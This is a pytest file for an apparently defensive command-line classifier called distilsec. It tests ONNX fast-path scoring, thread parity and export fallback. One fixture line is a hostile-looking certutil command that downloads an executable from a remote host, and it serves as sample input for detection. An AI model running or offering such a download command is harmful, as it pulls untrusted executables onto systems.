"""The fast scoring path is the default one (issue 11, item 9).

An ONNX bundle scores without importing torch or the model classes; `distilsec run` exports its
students so `auto` finds a model.onnx; `--threads 2` scores the same rows as one thread.
"""

from __future__ import annotations

import json
import subprocess
import sys

import numpy as np

from distilsec.bundle import read_manifest
from distilsec.serving.export.fast_path import export_fast_path
from distilsec.serving.runtime import resolve_runtime
from distilsec.serving.scoring import ScoringModel
from tests.conftest import make_texts
from tests.serving.conftest import _train

HEAVY = {"torch", "transformers", "sklearn", "scipy", "llama_cpp", "distilsec.students.char_cnn"}


def test_score_on_an_onnx_bundle_imports_no_torch_or_model_class(exported, tmp_path):
    src = tmp_path / "in.txt"
    src.write_text("ls -la\ncertutil -urlcache -f http://x/a.exe a.exe\n")
    out = tmp_path / "out.jsonl"
    code = (
        "import sys\nfrom distilsec.cli.app import app\n"
        f"app(['score', {str(src)!r}, '-m', {str(exported['char_cnn'])!r}, '-o', {str(out)!r}, '--no-progress'],"
        " standalone_mode=False)\nprint(' '.join(sys.modules))"
    )
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert not set(res.stdout.split()) & HEAVY
    assert len(out.read_text().splitlines()) == 2


def test_threads_2_scores_exactly_what_one_thread_scores(exported):
    texts = make_texts(700, seed=5)[0]
    one = ScoringModel(exported["char_cnn"], threads=1).score_batch(texts)
    two = ScoringModel(exported["char_cnn"], threads=2).score_batch(texts)
    np.testing.assert_array_equal(one[0], two[0])
    assert one[1] == two[1]


def test_run_exports_students_so_score_runs_onnx_by_default(tmp_path):
    bundle = _train("char_cnn", tmp_path / "student")
    assert resolve_runtime(bundle) == "native"
    assert export_fast_path(bundle, make_texts(80, seed=6)[0])
    assert (bundle / "model.onnx").is_file() and read_manifest(bundle)["onnx"]["parity"]["fp32"]["ok"]
    assert resolve_runtime(bundle) == "onnx" and ScoringModel(bundle).runtime == "onnx"


def test_a_bundle_that_cannot_be_exported_stays_a_native_bundle(tmp_path):
    from distilsec.students import TfidfLinearStudent

    texts, y, _ = make_texts(80, seed=7)
    bundle = TfidfLinearStudent(epochs=1).fit(texts, y).save(tmp_path / "tfidf")
    assert not export_fast_path(bundle, texts)  # no ONNX graph for this type: nothing to do, no error
    assert not (bundle / "model.onnx").exists()
    bundle = _train("char_cnn", tmp_path / "student")
    assert not export_fast_path(bundle, [])  # no texts for the parity check: left native, said so
    assert json.loads((bundle / "manifest.json").read_text()).get("onnx") is None
